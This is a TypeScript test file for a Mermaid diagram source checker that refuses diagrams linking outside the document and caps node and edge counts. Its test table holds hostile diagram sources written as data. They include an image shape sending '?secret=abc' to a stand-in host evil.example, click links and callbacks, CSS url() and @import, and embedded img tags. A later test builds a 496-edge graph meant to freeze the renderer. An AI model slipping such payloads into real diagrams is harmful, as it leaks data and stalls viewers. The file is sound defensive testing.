import { describe, expect, it } from 'vitest';
import { DEFAULTS } from '../../../../../shared/constants';
import { completeGraph } from '../testing/hostile-diagrams';
import { checkMermaidSource, countDiagram } from './mermaid-source-check';

describe('checkMermaidSource: nothing outside the answer is referenced, before any layout', () => {
  it.each([
    ['an img shape', 'flowchart TD\n  A@{ img: "https://evil.example/pixel.png?secret=abc", label: "x", h: 60 }'],
    ['an img shape with a quoted key', 'flowchart TD\n  A@{ "img": "pixel.png" }'],
    ['an img shape spelled with a YAML escape', 'flowchart TD\n  A@{ "\\x69mg": "x" }'],
    ['an icon shape', 'flowchart TD\n  A@{ icon: "fa:user", form: "square" }'],
    ['an image shape', 'flowchart TD\n  A@{ shape: image }'],
    ['a kanban ticket link', 'kanban\n  todo[Todo]\n    t1[Task]@{ ticket: MC-1 }'],
    ['a click href', 'flowchart TD\n  A-->B\n  click A href "https://evil.example" _blank'],
    ['a click callback', 'flowchart TD\n  A-->B\n  click A callback "tip"'],
    ['a click call', 'flowchart TD\n  A-->B\n  click A call alert()'],
    ['a bare click URL', 'flowchart TD; A-->B; click B "https://evil.example"'],
    ['a protocol-relative address', 'flowchart TD\n  A["//evil.example/x"]-->B'],
    ['a style with url()', 'flowchart TD\n  A-->B\n  style A fill:url(https://evil.example/p.png)'],
    ['a classDef with url()', 'flowchart TD\n  A-->B\n  classDef x fill:URL( "/p.png" )'],
    ['a CSS import in init', '%%{init: {"themeCSS": "@import \'x.css\'"}}%%\nflowchart TD\n  A-->B'],
    ['an HTML image in a label', 'flowchart TD\n  A["<img src=x>"]-->B'],
    ['an SVG image in a label', 'flowchart TD\n  A["< image xlink:href=p.png>"]-->B'],
    ['a sequence actor link', 'sequenceDiagram\n  participant A\n  link A: Dashboard @ https://evil.example'],
    ['sequence actor links', 'sequenceDiagram\n  participant A\n  links A: {"Repo": "x"}'],
    ['a C4 sprite', 'C4Context\n  Person(a, "A", $sprite="p")'],
    ['a mindmap icon', 'mindmap\n  root\n    ::icon(fa fa-book)'],
    ['an architecture icon pack', 'architecture-beta\n  service s(logos:aws)[S]\n  %% iconPacks'],
  ])('refuses %s', (_name, source) => {
    const check = checkMermaidSource(source);
    expect(check.type).toBe('refused');
  });

  it('draws ordinary diagrams, labels that only mention words like "link" included', () => {
    for (const source of [
      'flowchart TD\n  A[Start] --> B{Is it?}\n  B -- Yes --> C[OK: link the image]\n  B -- No --> D[End]',
      'sequenceDiagram\n  Alice->>Bob: Hello Bob\n  Bob-->>Alice: Hi Alice',
      'classDiagram\n  Animal <|-- Duck\n  Animal : +int age',
      'erDiagram\n  CUSTOMER ||--o{ ORDER : places',
      'stateDiagram-v2\n  [*] --> Still\n  Still --> [*]',
    ])
      expect(checkMermaidSource(source)).toMatchObject({ type: 'ok' });
  });
});

describe('checkMermaidSource: the caps, counted from the source', () => {
  it('counts chains and & groups as the edges they make', () => {
    expect(countDiagram('flowchart LR\n  A --> B --> C')).toEqual({ nodes: 3, edges: 2 });
    expect(countDiagram('flowchart LR\n  A & B --> C & D')).toEqual({ nodes: 4, edges: 4 });
    expect(countDiagram('flowchart LR\n  A["a --> b & c"] -->|x & y| B')).toEqual({ nodes: 2, edges: 1 });
  });

  it('refuses the 496-edge flowchart the review froze the window with, and its & spelling', () => {
    const source = completeGraph(32);
    expect(source.length).toBeLessThan(DEFAULTS.rendererDiagrams.maxSourceChars);
    expect(checkMermaidSource(source)).toEqual({ type: 'refused', reason: expect.stringContaining('edges (496)') });
    const ids = Array.from({ length: 32 }, (_, index) => `n${index}`);
    expect(checkMermaidSource(`flowchart TD\n  ${ids.slice(0, 16).join(' & ')} --> ${ids.slice(16).join(' & ')}`)).toMatchObject({
      type: 'refused',
    });
  });

  it('refuses too many nodes and too long a source', () => {
    const nodes = Array.from({ length: DEFAULTS.rendererDiagrams.maxNodes + 1 }, (_, index) => `  n${index}[N]`).join('\n');
    expect(checkMermaidSource(`flowchart TD\n${nodes}`)).toMatchObject({ type: 'refused', reason: expect.stringContaining('nodes') });
    expect(checkMermaidSource(`flowchart TD\n  A-->B\n%% ${'x'.repeat(DEFAULTS.rendererDiagrams.maxSourceChars)}`)).toMatchObject({
      type: 'refused',
      reason: expect.stringContaining('longer'),
    });
    expect(checkMermaidSource(completeGraph(20))).toMatchObject({ type: 'ok', nodes: 20, edges: 190 });
  });
});
